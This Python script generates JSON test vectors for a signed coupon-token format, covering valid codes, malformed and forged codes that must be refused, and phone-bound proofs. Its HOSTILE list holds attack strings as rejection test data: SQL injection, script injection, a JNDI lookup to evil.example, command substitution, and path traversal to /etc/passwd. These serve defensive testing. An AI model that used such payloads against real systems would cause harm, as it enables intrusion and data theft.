"""Write token.json: what a code must look like, and what must be refused, for every language.

    python tests/vectors/make_token_vectors.py

The same keys, fields and (RFC 6979) signatures each time, so a change in the file is a change of
the format. The private keys are printed in public standards and guard nothing.
"""

import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from dataclasses import replace
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path
from typing import Any
from uuid import UUID

import base45
import cbor2
from cryptography.hazmat.primitives.asymmetric.ec import (
    ECDSA,
    SECP256R1,
    EllipticCurvePrivateKey,
    derive_private_key,
)
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256

from coupon_engine.validation import short_code
from coupon_engine.validation.issuer_keys import IssuerKey, issuer_key, key_ring, public_jwk
from coupon_engine.validation.token import (
    compressed,
    coupon_text,
    head,
    sign,
    signature_of,
)
from schemas.campaigns import Level, OfflinePolicy
from schemas.coupons import HolderKey
from schemas.token import CouponFields, Policy

FILE = Path(__file__).with_name("token.json")


def private_key(number: str) -> EllipticCurvePrivateKey:
    return derive_private_key(int(number, 16), SECP256R1())


# RFC 6979 A.2.5, RFC 7517 A.2 and RFC 7515 A.3.
ISSUER = private_key("c9afa9d845ba75166b5c215767b1d6934e50c3db36e89b127b8a622b120f6721")
REGIONAL = private_key("f3bd0c07a81fb932781ed52752f60cc89a6be5e51934fe01938ddb55d8f77801")
PHONE = private_key("8e9b109e719098bf980487df1f5d77e9cb29606ebed2263b5f57c213df84f4b2")

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
SECOND = int(NOW.timestamp())
AT_HOME = ("cpn:any", "s:120345")
DIGITS = "4711"

KEY = issuer_key(
    public_jwk(ISSUER),
    letter="A",
    issuer="https://coupons.example/acme",
    valid_from=datetime(2026, 10, 1, tzinfo=UTC),
    private=ISSUER,
)
REGIONAL_KEY = issuer_key(
    public_jwk(REGIONAL),
    letter="B",
    issuer=KEY.issuer,
    valid_from=datetime(2026, 10, 1, tzinfo=UTC),
    valid_until=datetime(2027, 4, 1, tzinfo=UTC),
    campaigns=range(1_000, 2_000),
    private=REGIONAL,
)
RING = key_ring([KEY, REGIONAL_KEY])


def phone_key(phone: EllipticCurvePrivateKey = PHONE) -> bytes:
    jwk = public_jwk(phone)
    return compressed(HolderKey(x=jwk["x"], y=jwk["y"]))


def fields(policy: Policy | None = None, **changes: Any) -> CouponFields:
    """Return a coupon of the size that the reference measures: 165 and 321 characters."""
    usual: dict[str, Any] = {
        "jti": bytes.fromhex("0199b1a2c3d47e5f8a6b7c8d9eafb0c1"),
        "cmp": 48_213,
        "nbf": SECOND - 86_400,
        "exp": SECOND + 30 * 86_400,
        "off": (policy or Policy(quota_class=5, freshness_seconds=15)).pack(),
        "sto": 120_345,
        "idx": 734_512,
    }
    return CouponFields(**{**usual, **changes})


def bound(level: Level = Level.HOLDER_SIGNED, **changes: Any) -> CouponFields:
    seconds = changes.pop("freshness_seconds", 15)
    policy = Policy(level=level, quota_class=5, freshness_seconds=seconds)
    return fields(policy, holder_key=phone_key(), **changes)


def steady(token: str, private: EllipticCurvePrivateKey) -> str:
    """Return the token with the one signature that RFC 6979 gives it."""
    signed, _, _ = token.rpartition(".")
    der = private.sign(signed.encode(), ECDSA(SHA256(), deterministic_signing=True))
    r, s = decode_dss_signature(der)
    return f"{signed}.{b64(r.to_bytes(32) + s.to_bytes(32))}"


def signed(coupon: CouponFields, key: IssuerKey = KEY) -> str:
    assert key.private is not None
    return steady(sign(coupon, key), key.private)


def shown(coupon: CouponFields, key: IssuerKey = KEY) -> str:
    return coupon_text(coupon, signature_of(signed(coupon, key)), key.letter)


def proof_jwt(
    coupon: CouponFields,
    phone: EllipticCurvePrivateKey = PHONE,
    *,
    seconds_ago: int = 5,
    audience: str | None = None,
    nonce: str = "",
) -> str:
    """Sign as a phone does, which has no library of ours."""
    claims = {
        "iat": SECOND - seconds_ago,
        "aud": audience or coupon.audience,
        "nonce": nonce,
        "sd_hash": b64(sha256(f"{signed(coupon)}~".encode()).digest()),
    }
    header = b64(b'{"alg":"ES256","typ":"kb+jwt"}')
    return steady(f"{header}.{b64(compact(claims))}.", phone)


def presented(
    coupon: CouponFields,
    phone: EllipticCurvePrivateKey = PHONE,
    *,
    seconds_ago: int = 5,
    audience: str | None = None,
    nonce: str = "",
) -> str:
    """Show as a phone does."""
    proof = proof_jwt(coupon, phone, seconds_ago=seconds_ago, audience=audience, nonce=nonce)
    body = head(coupon) + b"\x1a" + (SECOND - seconds_ago).to_bytes(4)
    return packed("CP2A", body, signature_of(signed(coupon)) + signature_of(proof))


def packed(start: str, body: bytes, signatures: bytes) -> str:
    return start + base45.b45encode(body + signatures).decode()


def unpacked(text: str) -> bytes:
    return base45.b45decode(text[4:])


def vectors() -> dict[str, Any]:
    return {
        "now": SECOND,
        "keys": {
            "issuer": with_private(ISSUER),
            "regional": with_private(REGIONAL),
            "phone": with_private(PHONE),
        },
        "ring": [ring_entry(key) for key in RING.values()],
        "policies": [policy_vector(policy) for policy in POLICIES],
        "static": [static_vector(name, coupon) for name, coupon in STATIC.items()],
        "bound": [bound_vector(*case) for case in BOUND],
        "refused": [
            {"why": why, "code": code, "audiences": AT_HOME, "nonce": nonce, "text": text}
            for why, code, text, nonce in refused()
        ],
        "hostile": HOSTILE,
        "short_codes": short_codes(),
    }


# What else people and attackers hold before a camera. None of it is a coupon.
HOSTILE = (
    "https://coupons.example/c/CP1A",
    "http://127.0.0.1:5432/",
    "https://coupons.example@evil.example/",
    "HTTP://EVIL.EXAMPLE/CP1A" + "0" * 120,
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "intent://scan/#Intent;scheme=zxing;end",
    "market://details?id=evil",
    "itms-services://?action=download-manifest&url=https://evil.example/a.plist",
    "tel:+4930123456",
    "sms:+4930123456:hello",
    "SMSTO:+4930123456:hello",
    "mailto:a@evil.example?subject=x",
    "geo:52.5,13.4",
    "WIFI:T:WPA;S:free;P:password;;",
    "BEGIN:VCARD\nVERSION:3.0\nFN:A\nEND:VCARD",
    "BEGIN:VEVENT\nSUMMARY:A\nEND:VEVENT",
    "otpauth://totp/A:a?secret=JBSWY3DPEHPK3PXP",
    "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "upi://pay?pa=a@b&am=1",
    "weixin://wxpay/bizpayurl?pr=x",
    "134567890123456789",
    "281234567890123456",
    "LPA:1$evil.example$X",
    "HC1:6BFOXN%TS3DH",
    "shc:/567629595326546034602925",
    "SPC\n0200\n1\nCH4431999123000889012",
    "BCD\n002\n1\nSCT",
    "8112010003800005123456",
    "4006381333931",
    "'; DROP TABLE coupons;--",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%n%n",
    "$(reboot)`reboot`",
    "../../../../etc/passwd",
    "\\\\evil.example\\share",
    "\u0000\u0001\u001b[2J",
    "\u202eA1PC",
    "\ufeffCP1A",
    "eyJhbGciOiJub25lIn0.eyJqdGkiOiJ4In0.",
    "CP1",
    "cp1a" + "0" * 120,
    "CP1A" + "_" * 120,
    "9" * 7_089,
)
POLICIES = (
    Policy(freshness_seconds=15),
    Policy(),
    Policy(level=Level.ROTATING, offline=OfflinePolicy.DEVICE_QUOTA, quota_class=15),
    Policy(level=Level.HOLDER_SIGNED, offline=OfflinePolicy.STORE_BOUND, freshness_seconds=120),
    Policy(
        level=Level.CHALLENGED,
        offline=OfflinePolicy.CAMPAIGN_ESCROW,
        quota_class=9,
        freshness_seconds=300,
        paper_allowed=True,
        activation_required=True,
        multi_use=True,
    ),
)
STATIC = {
    "a coupon for one store": fields(),
    "a coupon for any store, in every bit of its policy": fields(
        Policy(freshness_seconds=300, paper_allowed=True, activation_required=True, multi_use=True),
        sto=0,
    ),
    "smallest numbers": fields(cmp=0, nbf=0, exp=0, sto=0, idx=0),
    "largest numbers": fields(
        cmp=2**40 - 1, nbf=253_402_300_799, exp=253_402_300_799, sto=2**40 - 1, idx=2**40 - 1
    ),
    "already over: reading tells, judging refuses": fields(exp=SECOND - 1),
}
BOUND = (
    ("bound to a phone, for one store", bound(), ""),
    ("bound to a phone, for any store", bound(sto=0, freshness_seconds=60), ""),
    ("with the digits of the counter", bound(Level.CHALLENGED), DIGITS),
    ("with digits where none were needed", bound(), DIGITS),
)


def static_vector(name: str, coupon: CouponFields) -> dict[str, Any]:
    return {
        "name": name,
        "letter": "A",
        **parts(coupon),
        "cbor": unpacked(shown(coupon))[:-64].hex(),
        "text": shown(coupon),
    }


def bound_vector(name: str, coupon: CouponFields, nonce: str) -> dict[str, Any]:
    proof = proof_jwt(coupon, nonce=nonce)
    return {
        "name": name,
        "letter": "A",
        **parts(coupon),
        "head": b64(head(coupon)),
        "iat": SECOND - 5,
        "audience": coupon.audience,
        "nonce": nonce,
        "proof_header": segment(proof, 0),
        "proof_payload": segment(proof, 1),
        "proof_jwt": proof,
        "text": presented(coupon, nonce=nonce),
    }


def parts(coupon: CouponFields) -> dict[str, Any]:
    token = signed(coupon)
    plain = coupon.model_dump(exclude={"jti", "holder_key"})
    key = None if coupon.holder_key is None else coupon.holder_key.hex()
    return {
        "fields": {"jti": coupon.jti.hex(), **plain, "holder_key": key},
        "header": segment(token, 0),
        "payload": segment(token, 1),
        "jwt": token,
    }


def refused() -> list[tuple[str, str, str, str]]:
    """Return (why, code, text, digits asked for)."""
    coupon, mine = fields(), bound()
    good, live = shown(coupon), presented(mine)
    challenged = bound(Level.CHALLENGED)
    raw, signature = unpacked(good), unpacked(good)[-64:]
    body = raw[:-64]
    values = list(cbor2.loads(body))
    stranger = bytes([2]) + bytes(31) + bytes([5])  # x = 5 lies on the curve
    nowhere = bytes([2]) + bytes(31) + bytes([7])  # x = 7 does not

    def cbor(*items: object) -> str:
        return packed("CP1A", cbor2.dumps(list(items), canonical=True), signature)

    return [
        ("an address", "not_a_coupon", "HTTPS://COUPONS.EXAMPLE/" + "A" * 120, ""),
        ("nothing", "not_a_coupon", "", ""),
        ("lower case", "not_a_coupon", good.lower(), ""),
        ("a space before", "not_a_coupon", " " + good, ""),
        ("a line end after", "not_a_coupon", good + "\n", ""),
        ("a template to come", "not_a_coupon", "CP9" + good[3:], ""),
        ("cut off", "not_a_coupon", good[:80], ""),
        ("513 characters", "not_a_coupon", good[:4] + "0" * 509, ""),
        ("double-width digits", "not_a_coupon", good[:-1] + "１", ""),
        ("not base45: a group above 65535", "malformed", good[:-3] + ":::", ""),
        ("not base45: one symbol too many", "malformed", good + "0", ""),
        ("one byte after the array", "malformed", packed("CP1A", body + b"\0", signature), ""),
        ("a number not in its shortest form", "malformed", padded(body, signature), ""),
        ("an array without its length", "malformed", endless(body, signature), ""),
        ("a text for a number", "malformed", cbor(values[0], "1", *values[2:]), ""),
        ("true for a number", "malformed", cbor(values[0], bool(1), *values[2:]), ""),
        ("a float for a number", "malformed", cbor(values[0], 1.5, *values[2:]), ""),
        ("a negative number", "malformed", cbor(values[0], -1, *values[2:]), ""),
        ("2^40", "malformed", cbor(values[0], 2**40, *values[2:]), ""),
        ("2^64", "malformed", cbor(values[0], 2**64, *values[2:]), ""),
        ("an id of 15 bytes", "malformed", cbor(values[0][1:], *values[1:]), ""),
        ("a text for the id", "malformed", cbor("0" * 16, *values[1:]), ""),
        ("a field too few", "malformed", cbor(*values[:-1]), ""),
        ("a field too many", "malformed", cbor(*values, 0), ""),
        ("an array in an array", "malformed", cbor([values]), ""),
        ("a map", "malformed", packed("CP1A", cbor2.dumps(dict(enumerate(values))), signature), ""),
        ("200 arrays in each other", "malformed", packed("CP1A", b"\x81" * 200, signature), ""),
        ("a tag", "malformed", packed("CP1A", b"\xd8\x1c" + body, signature), ""),
        ("an unknown policy bit", "malformed", cbor(*values[:4], 1 << 14, *values[5:]), ""),
        ("an unknown freshness", "malformed", cbor(*values[:4], 5 << 8, *values[5:]), ""),
        ("a static code called live", "malformed", "CP2" + good[3:], ""),
        ("a live code called static", "malformed", "CP1" + live[3:], ""),
        ("a time of 2^40", "malformed", timed(live, b"\x1b" + (2**40).to_bytes(8)), ""),
        ("a time before 1970", "malformed", timed(live, b"\x20"), ""),
        ("a phone key that is no point", "malformed", rekeyed(live, nowhere), ""),
        ("a letter that is not in the ring", "unknown_key", "CP1Z" + good[4:], ""),
        ("another key of the ring", "bad_signature", "CP1B" + good[4:], ""),
        ("an id changed by one bit", "bad_signature", cbor(flipped(values[0]), *values[1:]), ""),
        ("a later end", "bad_signature", cbor(*values[:3], values[3] + 1, *values[4:]), ""),
        ("another store", "bad_signature", cbor(*values[:5], 0, values[6]), ""),
        ("no signature", "bad_signature", packed("CP1A", body, bytes(64)), ""),
        ("a stranger's phone key", "bad_signature", rekeyed(live, stranger), ""),
        ("a regional key abroad", "key_scope", abroad(coupon), ""),
        ("another phone's proof", "bad_holder_signature", presented(mine, ISSUER), ""),
        (
            "a proof for another counter",
            "bad_holder_signature",
            presented(bound(sto=0), audience="s:999"),
            "",
        ),
        ("a proof of another moment", "bad_holder_signature", retimed(live), ""),
        ("a photograph", "stale", presented(mine, seconds_ago=75), ""),
        ("a proof from tomorrow", "clock_ahead", presented(mine, seconds_ago=-86_400), ""),
        ("a proof 61 s ahead", "clock_ahead", presented(mine, seconds_ago=-61), ""),
        ("no digits asked for", "challenge_required", presented(challenged), ""),
        ("no digits answered", "challenge_required", presented(challenged), DIGITS),
        ("other digits", "challenge_required", presented(challenged, nonce="4712"), DIGITS),
        (
            "a picture where the phone must sign",
            "live_code_required",
            shown(fields(Policy(level=Level.HOLDER_SIGNED, freshness_seconds=15))),
            "",
        ),
    ]


def padded(body: bytes, signature: bytes) -> str:
    """Write the campaign's number in four bytes where two are enough."""
    assert body[18:19] == b"\x19"
    longer = body[:18] + b"\x1a\x00\x00" + body[19:]
    return packed("CP1A", longer, signature)


def endless(body: bytes, signature: bytes) -> str:
    return packed("CP1A", b"\x9f" + body[1:] + b"\xff", signature)


def rekeyed(text: str, holder_key: bytes) -> str:
    raw = unpacked(text)
    return packed("CP2A", raw.replace(phone_key(), holder_key)[:-128], raw[-128:])


def timed(text: str, iat: bytes) -> str:
    raw = unpacked(text)
    return packed("CP2A", raw[:-133] + iat, raw[-128:])


def retimed(text: str) -> str:
    raw = unpacked(text)
    return packed("CP2A", raw[:-129] + flipped(raw[-129:-128]), raw[-128:])


def abroad(coupon: CouponFields) -> str:
    """Sign with the regional key as if it could sign everything."""
    unbounded = replace(REGIONAL_KEY, campaigns=KEY.campaigns)
    return coupon_text(coupon, signature_of(signed(coupon, unbounded)), "B")


def flipped(data: bytes) -> bytes:
    return data[:-1] + bytes([data[-1] ^ 1])


def short_codes() -> dict[str, Any]:
    secret, pepper = b"a secret of tests", b"a pepper of tests"
    ids = [UUID("0199b1a2-c3d4-7e5f-8a6b-7c8d9eafb0c1"), UUID(int=0)]
    code = short_code.short_code_of(ids[0], secret)
    plain = short_code.normalise(code)
    typed = {code: plain, plain.lower(): plain, f" {code[:4]} {code[5:]} ": plain}
    bad = [plain[:-1], plain + "0", plain[:-1] + ("1" if plain[-1] == "0" else "0"), "U" * 12, ""]
    return {
        "alphabet": short_code.ALPHABET,
        "secret": secret.hex(),
        "pepper": pepper.hex(),
        "codes": [
            {
                "coupon_id": str(one),
                "code": short_code.short_code_of(one, secret),
                "fingerprint": short_code.fingerprint(
                    short_code.short_code_of(one, secret), pepper
                ).hex(),
            }
            for one in ids
        ],
        "good": [{"typed": text, "meant": meant} for text, meant in typed.items()],
        "bad": bad,
    }


def ring_entry(key: IssuerKey) -> dict[str, Any]:
    return {
        "letter": key.letter,
        "kid": key.kid,
        "issuer": key.issuer,
        "jwk": public_jwk(key.public.key),
        "valid_from": int(key.valid_from.timestamp()),
        "valid_until": int(key.valid_until.timestamp()) if key.valid_until else None,
        "campaigns": [key.campaigns.start, key.campaigns.stop],
    }


def policy_vector(policy: Policy) -> dict[str, Any]:
    return {"off": policy.pack(), **policy.model_dump(mode="json")}


def with_private(key: EllipticCurvePrivateKey) -> dict[str, Any]:
    return {**public_jwk(key), "d": b64(key.private_numbers().private_value.to_bytes(32))}


def segment(token: str, place: int) -> str:
    part = token.split(".")[place]
    return urlsafe_b64decode(part + "=" * (-len(part) % 4)).decode()


def compact(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def b64(data: bytes) -> str:
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def written() -> str:
    return json.dumps(vectors(), indent=1, ensure_ascii=False) + "\n"


if __name__ == "__main__":
    FILE.write_text(written(), encoding="utf-8")
